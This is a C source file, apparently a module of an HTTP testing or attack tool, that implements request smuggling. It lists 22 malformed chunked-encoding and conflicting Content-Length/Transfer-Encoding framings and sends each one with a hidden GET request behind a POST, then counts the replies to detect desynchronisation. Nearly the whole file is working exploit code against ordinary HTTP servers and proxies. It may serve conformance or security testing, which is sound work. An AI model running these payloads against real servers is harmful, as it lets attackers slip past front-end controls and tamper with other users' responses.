/* SPDX-License-Identifier: Apache-2.0 */
/* Framing that one reader takes for one request and another for two (RFC 9112, 6.3 and 7.1). Each
 * shape goes out on connections of its own, as the first and as the second request; behind it lies
 * a request that must not be answered. */
#include "attack.h"

#define SHAPES (sizeof(shapes) / sizeof(shapes[0]))

/* What follows the head's first lines; the request that is hidden in it is put behind. */
static const char *const shapes[] = {
    "Transfer-Encoding: chunked\r\n\r\n0_2e\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n0x1\r\na\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n1\na\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n1\r\na\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n\n",
    "Transfer-Encoding: chunked\r\n\r\n1;a=b\rx\r\na\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n1;\na\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n +0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n-0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n1\r\nab0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\n\r\n",
    "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "Content-Length: 0\r\nContent-Length: 0\r\n\r\n",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "Content-Length: +0\r\n\r\n",
    "Content-Length: 0x0\r\n\r\n",
};

static void put_head(client *c, const char *method)
{
    put_text(c, method);
    put_text(c, " ");
    put_text(c, words.target);
    put_text(c, " HTTP/1.1\r\nHost: ");
    put_text(c, words.authority);
    put_text(c, "\r\n");
}

static bool turn(client *c)
{
    const bool second = c->index / SHAPES % 2 == 1;
    if (second) {
        put_head(c, "GET");
        put_text(c, "\r\n");
    }
    put_head(c, "POST");
    put_text(c, "Content-Type: application/x-www-form-urlencoded\r\n");
    put_text(c, shapes[c->index % SHAPES]);
    put_head(c, "GET");
    put_text(c, "\r\n");
    c->answers_max = second ? 2 : 1;
    return false;
}

const attack smuggling = {
    .name = "smuggling",
    .help = "framing that hides a second request",
    .carriage = CARRY_H1,
    .connections = 2 * SHAPES,
    .turn = turn,
};
